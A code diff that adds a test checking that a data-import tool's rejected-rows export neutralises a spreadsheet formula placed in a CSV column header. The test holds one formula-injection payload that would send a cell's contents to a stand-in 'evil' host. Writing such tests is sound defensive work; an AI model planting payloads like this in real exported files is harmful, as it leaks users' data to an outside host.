@@ -69,6 +69,23 @@ def test_cli_import_rejects_rows_and_lists_them(db, tmp_path, capsys):
     assert open_store(db).count(principal=ADMIN) == 1
 
 
+def test_quarantine_file_guards_the_uploaded_header(db, tmp_path, capsys):
+    """The rejected rows come back with the file's own column names: a name a spreadsheet
+    would run as a formula is guarded like a cell."""
+    hostile = '=HYPERLINK("http://evil/?"&A2;"x")'
+    path = tmp_path / "table.csv"
+    path.write_text(f'date,village,lat,lon,type,"{hostile.replace(chr(34), chr(34) * 2)}"\n'
+                    "2024-05-01,Ak-Say,39.87,70.52,youth_clash,1\n"
+                    "not a date,Vorukh,39.85,70.58,youth_clash,1\n", encoding="utf-8")
+    assert main(["import", str(path), "--db", db]) == 0
+    out = tmp_path / "rejected.csv"
+    assert main(["quarantine", "--out", str(out), "--db", db]) == 0
+    header = out.read_text(encoding="utf-8").splitlines()[0]
+    assert "'" + hostile.replace('"', '""') in header
+    assert ',"=' not in header and not header.startswith("=")
+    capsys.readouterr()
+
+
 def test_cli_file_errors(db, tmp_path, capsys):
     assert main(["import", str(tmp_path / "missing.csv"), "--db", db]) == EXIT_FILE
     empty = tmp_path / "empty.csv"
